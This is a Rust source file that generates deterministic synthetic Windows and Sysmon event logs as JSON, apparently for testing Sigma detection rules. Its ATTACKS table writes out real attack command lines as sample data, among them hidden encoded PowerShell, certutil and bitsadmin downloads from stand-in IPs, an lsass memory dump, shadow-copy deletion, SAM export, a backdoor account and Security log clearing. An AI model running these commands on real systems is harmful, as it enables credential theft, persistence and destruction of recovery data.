//! A deterministic stream of Windows / Sysmon events as flat JSON objects (the shape
//! `flat::flatten_evtx` produces from real logs), with varied field values: 2,000 hosts,
//! 5,000 users, a few hundred binaries in user and system folders, random arguments, GUIDs,
//! hashes, addresses and ports; about 1 % of the process events are attack-like command lines
//! from the SigmaHQ regression data's families (encoded PowerShell, certutil download,
//! comsvcs MiniDump, ...), so some rules do match.

use serde_json::{Map, Value, json};

/// SplitMix64: small, fast, deterministic.
pub struct Rng(u64);

impl Rng {
    /// Seeded generator.
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }
    /// Next 64 random bits.
    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n`.
    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    /// One element of a slice.
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    /// True with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }
}

const SYSTEM_BINS: &[&str] = &[
    "svchost.exe",
    "cmd.exe",
    "powershell.exe",
    "conhost.exe",
    "rundll32.exe",
    "explorer.exe",
    "taskhostw.exe",
    "dllhost.exe",
    "wmiprvse.exe",
    "msiexec.exe",
    "reg.exe",
    "sc.exe",
    "schtasks.exe",
    "net.exe",
    "net1.exe",
    "whoami.exe",
    "ipconfig.exe",
    "tasklist.exe",
    "wevtutil.exe",
    "bitsadmin.exe",
    "certutil.exe",
    "mshta.exe",
    "regsvr32.exe",
    "wscript.exe",
    "cscript.exe",
    "SearchIndexer.exe",
    "SearchProtocolHost.exe",
    "backgroundTaskHost.exe",
    "RuntimeBroker.exe",
    "lsass.exe",
    "services.exe",
    "winlogon.exe",
    "spoolsv.exe",
    "WerFault.exe",
    "notepad.exe",
    "mmc.exe",
    "gpupdate.exe",
    "msdt.exe",
    "forfiles.exe",
    "hh.exe",
    "findstr.exe",
    "nltest.exe",
    "vssadmin.exe",
    "wbadmin.exe",
    "bcdedit.exe",
];
const USER_APPS: &[&str] = &[
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Program Files\Mozilla Firefox\firefox.exe",
    r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    r"C:\Program Files\Microsoft VS Code\Code.exe",
    r"C:\Program Files\Git\cmd\git.exe",
    r"C:\Program Files\7-Zip\7z.exe",
    r"C:\Program Files\Notepad++\notepad++.exe",
    r"C:\Program Files\Zoom\bin\Zoom.exe",
    r"C:\Program Files\Slack\slack.exe",
    r"C:\Program Files\Python311\python.exe",
    r"C:\Program Files\nodejs\node.exe",
    r"C:\Program Files\Java\jre-1.8\bin\java.exe",
    r"C:\Program Files\Windows Defender\MsMpEng.exe",
    r"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe",
];
const ATTACKS: &[(&str, &str)] = &[
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    ),
    (
        r"C:\Windows\System32\certutil.exe",
        "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
    ),
    (
        r"C:\Windows\System32\vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
    ),
    (r"C:\Windows\System32\whoami.exe", "whoami /priv"),
    (
        r"C:\Windows\System32\reg.exe",
        "reg save HKLM\\SAM C:\\Users\\Public\\sam.save",
    ),
    (
        r"C:\Windows\System32\schtasks.exe",
        "schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe /ru SYSTEM",
    ),
    (
        r"C:\Windows\System32\mshta.exe",
        "mshta.exe vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell\"\"\")",
    ),
    (
        r"C:\Windows\System32\bitsadmin.exe",
        "bitsadmin /transfer job /download /priority high http://203.0.113.5/p.ps1 C:\\Windows\\Temp\\p.ps1",
    ),
    (
        r"C:\Windows\System32\net.exe",
        "net user /add backdoor P@ssw0rd!",
    ),
    (r"C:\Windows\System32\wevtutil.exe", "wevtutil cl Security"),
    (
        r"C:\Windows\System32\nltest.exe",
        "nltest /domain_trusts /all_trusts",
    ),
];
const ARGS: &[&str] = &[
    "",
    "/c dir",
    "-k netsvcs -p",
    "/s",
    "--type=renderer --field-trial-handle=1820",
    "/quiet",
    "-Embedding",
    "/update",
    "--no-sandbox",
    "/v",
    "-ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
    "status",
    "pull origin main",
    "/processid:{3EB3C877-1F16-487C-9050-104DBCD66683}",
];
const REG_KEYS: &[&str] = &[
    r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive",
    r"HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs",
    r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings",
    r"HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring",
    r"HKLM\SYSTEM\CurrentControlSet\Control\Lsa\LmCompatibilityLevel",
    r"HKCU\Software\Classes\ms-settings\Shell\Open\command",
];
const DOMAINS: &[&str] = &[
    "www.google.com",
    "login.microsoftonline.com",
    "github.com",
    "update.googleapis.com",
    "outlook.office365.com",
    "cdn.jsdelivr.net",
    "api.slack.com",
    "raw.githubusercontent.com",
    "pastebin.com",
    "transfer.sh",
    "ngrok.io",
    "files.corp.example",
];
const DLLS: &[&str] = &[
    "ntdll.dll",
    "kernel32.dll",
    "advapi32.dll",
    "clr.dll",
    "wininet.dll",
    "dbghelp.dll",
    "samlib.dll",
    "vaultcli.dll",
    "System.Management.Automation.ni.dll",
    "amsi.dll",
    "winhttp.dll",
];

/// Generates `n` events, deterministic for a seed.
pub fn generate(n: usize, seed: u64) -> Vec<Value> {
    let mut rng = Rng::new(seed);
    (0..n).map(|i| event(&mut rng, i)).collect()
}

fn guid(rng: &mut Rng) -> String {
    let a = rng.next();
    let b = rng.next();
    format!(
        "{{{:08X}-{:04X}-{:04X}-{:04X}-{:012X}}}",
        a >> 32,
        (a >> 16) & 0xFFFF,
        a & 0xFFFF,
        b >> 48,
        b & 0xFFFF_FFFF_FFFF
    )
}

fn image(rng: &mut Rng, user: &str) -> String {
    match rng.below(10) {
        0..=4 => format!(r"C:\Windows\System32\{}", rng.pick(SYSTEM_BINS)),
        5..=7 => rng.pick(USER_APPS).to_string(),
        8 => format!(
            r"C:\Users\{user}\AppData\Local\Temp\{}",
            rng.pick(SYSTEM_BINS)
        ),
        _ => format!(r"C:\Users\{user}\Downloads\setup_{}.exe", rng.below(5000)),
    }
}

fn file_name(path: &str) -> &str {
    path.rsplit('\\').next().unwrap_or(path)
}

fn event(rng: &mut Rng, i: usize) -> Value {
    let host = format!("WS-{:04}.corp.example", rng.below(2000));
    let user = format!("user{:04}", rng.below(5000));
    let secs = 1_776_000_000 + (i / 1000) as u64;
    let time = format!(
        "2026-04-12T{:02}:{:02}:{:02}.{:03}Z",
        secs / 3600 % 24,
        secs / 60 % 60,
        secs % 60,
        i % 1000
    );
    let mut m = Map::new();
    let kind = rng.below(100);
    let sysmon = kind < 85;
    m.insert("Computer".into(), json!(host));
    m.insert("SystemTime".into(), json!(time));
    m.insert("Level".into(), json!(4));
    if sysmon {
        m.insert(
            "Channel".into(),
            json!("Microsoft-Windows-Sysmon/Operational"),
        );
        m.insert("Provider_Name".into(), json!("Microsoft-Windows-Sysmon"));
        m.insert(
            "UtcTime".into(),
            json!(time.replace('T', " ").trim_end_matches('Z')),
        );
        m.insert("ProcessGuid".into(), json!(guid(rng)));
        m.insert("ProcessId".into(), json!(rng.below(60000) + 4));
        m.insert("User".into(), json!(format!("CORP\\{user}")));
    }
    let img = image(rng, &user);
    match kind {
        // Sysmon 1: process creation.
        0..=29 => {
            let (img, cmd) = if rng.chance(0.01) {
                let (i, c) = rng.pick(ATTACKS);
                (i.to_string(), c.to_string())
            } else {
                let cmd = format!("\"{img}\" {}", rng.pick(ARGS));
                (img, cmd)
            };
            let parent = image(rng, &user);
            m.insert("EventID".into(), json!(1));
            m.insert(
                "OriginalFileName".into(),
                json!(file_name(&img).to_ascii_uppercase()),
            );
            m.insert("Image".into(), json!(img));
            m.insert("CommandLine".into(), json!(cmd));
            m.insert(
                "CurrentDirectory".into(),
                json!(format!("C:\\Users\\{user}\\")),
            );
            m.insert(
                "IntegrityLevel".into(),
                json!(*rng.pick(&["Medium", "High", "System"])),
            );
            m.insert(
                "Hashes".into(),
                json!(format!(
                    "SHA256={:016X}{:016X}{:016X}{:016X}",
                    rng.next(),
                    rng.next(),
                    rng.next(),
                    rng.next()
                )),
            );
            m.insert("ParentProcessGuid".into(), json!(guid(rng)));
            m.insert("ParentCommandLine".into(), json!(format!("\"{parent}\"")));
            m.insert("ParentImage".into(), json!(parent));
            m.insert("Company".into(), json!("Microsoft Corporation"));
            m.insert(
                "Product".into(),
                json!("Microsoft® Windows® Operating System"),
            );
            m.insert("Description".into(), json!("Windows host process"));
        }
        // Sysmon 3: network connection.
        30..=41 => {
            m.insert("EventID".into(), json!(3));
            m.insert("Image".into(), json!(img));
            m.insert("Protocol".into(), json!("tcp"));
            m.insert("Initiated".into(), json!("true"));
            m.insert(
                "SourceIp".into(),
                json!(format!(
                    "10.{}.{}.{}",
                    rng.below(16),
                    rng.below(256),
                    rng.below(254) + 1
                )),
            );
            m.insert("SourcePort".into(), json!(49152 + rng.below(16000)));
            m.insert(
                "DestinationIp".into(),
                json!(format!(
                    "{}.{}.{}.{}",
                    rng.below(223) + 1,
                    rng.below(256),
                    rng.below(256),
                    rng.below(254) + 1
                )),
            );
            m.insert(
                "DestinationPort".into(),
                json!(*rng.pick(&[443, 80, 445, 3389, 53, 8080, 22, 4444])),
            );
            m.insert("DestinationHostname".into(), json!(*rng.pick(DOMAINS)));
        }
        // Sysmon 7: image load.
        42..=53 => {
            let dll = rng.pick(DLLS);
            m.insert("EventID".into(), json!(7));
            m.insert("Image".into(), json!(img));
            m.insert(
                "ImageLoaded".into(),
                json!(format!("C:\\Windows\\System32\\{dll}")),
            );
            m.insert("OriginalFileName".into(), json!(dll));
            m.insert("Signed".into(), json!("true"));
            m.insert("Signature".into(), json!("Microsoft Windows"));
            m.insert("SignatureStatus".into(), json!("Valid"));
        }
        // Sysmon 11: file created.
        54..=65 => {
            m.insert("EventID".into(), json!(11));
            m.insert("Image".into(), json!(img));
            m.insert(
                "TargetFilename".into(),
                json!(format!(
                    "C:\\Users\\{user}\\{}\\{}.{}",
                    rng.pick(&[
                        "Documents",
                        "AppData\\Local\\Temp",
                        "Downloads",
                        "Desktop",
                        "AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
                    ]),
                    rng.below(100_000),
                    rng.pick(&["docx", "tmp", "log", "ps1", "dll", "exe", "lnk", "zip"])
                )),
            );
        }
        // Sysmon 13: registry value set.
        66..=75 => {
            m.insert("EventID".into(), json!(13));
            m.insert("EventType".into(), json!("SetValue"));
            m.insert("Image".into(), json!(img));
            m.insert("TargetObject".into(), json!(rng.pick(REG_KEYS)));
            m.insert(
                "Details".into(),
                json!(format!("DWORD (0x{:08x})", rng.below(4))),
            );
        }
        // Sysmon 22: DNS query.
        76..=81 => {
            m.insert("EventID".into(), json!(22));
            m.insert("Image".into(), json!(img));
            m.insert("QueryName".into(), json!(rng.pick(DOMAINS)));
            m.insert("QueryStatus".into(), json!("0"));
            m.insert(
                "QueryResults".into(),
                json!(format!(
                    "::ffff:{}.{}.{}.{};",
                    rng.below(223) + 1,
                    rng.below(256),
                    rng.below(256),
                    rng.below(256)
                )),
            );
        }
        // Sysmon 10: process access.
        82..=84 => {
            m.insert("EventID".into(), json!(10));
            m.insert("SourceImage".into(), json!(img));
            m.insert(
                "TargetImage".into(),
                json!(format!(
                    "C:\\Windows\\System32\\{}",
                    rng.pick(&["lsass.exe", "svchost.exe", "csrss.exe"])
                )),
            );
            m.insert(
                "GrantedAccess".into(),
                json!(*rng.pick(&["0x1000", "0x1410", "0x1fffff", "0x40"])),
            );
            m.insert("CallTrace".into(), json!("C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2730e"));
        }
        // Security 4624 / 4625 / 4672.
        _ => {
            let eid = *rng.pick(&[4624, 4624, 4624, 4625, 4672]);
            m.insert("Channel".into(), json!("Security"));
            m.insert(
                "Provider_Name".into(),
                json!("Microsoft-Windows-Security-Auditing"),
            );
            m.insert("EventID".into(), json!(eid));
            m.insert("TargetUserName".into(), json!(user));
            m.insert("TargetDomainName".into(), json!("CORP"));
            m.insert("SubjectUserSid".into(), json!("S-1-5-18"));
            m.insert(
                "LogonType".into(),
                json!(*rng.pick(&[2, 3, 3, 3, 5, 7, 10])),
            );
            m.insert(
                "IpAddress".into(),
                json!(format!(
                    "10.{}.{}.{}",
                    rng.below(16),
                    rng.below(256),
                    rng.below(254) + 1
                )),
            );
            m.insert("IpPort".into(), json!(rng.below(65535)));
            m.insert(
                "WorkstationName".into(),
                json!(host.split('.').next().unwrap_or("")),
            );
            m.insert(
                "LogonProcessName".into(),
                json!(*rng.pick(&["NtLmSsp", "Kerberos", "User32", "Advapi"])),
            );
            m.insert(
                "AuthenticationPackageName".into(),
                json!(*rng.pick(&["NTLM", "Kerberos", "Negotiate"])),
            );
            m.insert(
                "ProcessName".into(),
                json!(r"C:\Windows\System32\lsass.exe"),
            );
            if eid == 4625 {
                m.insert("Status".into(), json!("0xc000006d"));
                m.insert(
                    "SubStatus".into(),
                    json!(*rng.pick(&["0xc000006a", "0xc0000064"])),
                );
            }
        }
    }
    Value::Object(m)
}

/// The log source of a generated (or flattened real) event, as (product, service, category):
/// what a collector knows from the channel and event id.
pub fn logsource_of(
    v: &Value,
) -> (
    Option<&'static str>,
    Option<&'static str>,
    Option<&'static str>,
) {
    let channel = v.get("Channel").and_then(Value::as_str).unwrap_or("");
    let eid = v.get("EventID").and_then(Value::as_i64).unwrap_or(-1);
    if channel == "Microsoft-Windows-Sysmon/Operational" {
        let category = match eid {
            1 => Some("process_creation"),
            3 => Some("network_connection"),
            7 => Some("image_load"),
            10 => Some("process_access"),
            11 => Some("file_event"),
            13 => Some("registry_set"),
            22 => Some("dns_query"),
            _ => None,
        };
        (Some("windows"), Some("sysmon"), category)
    } else if channel == "Security" {
        (Some("windows"), Some("security"), None)
    } else {
        (Some("windows"), None, None)
    }
}
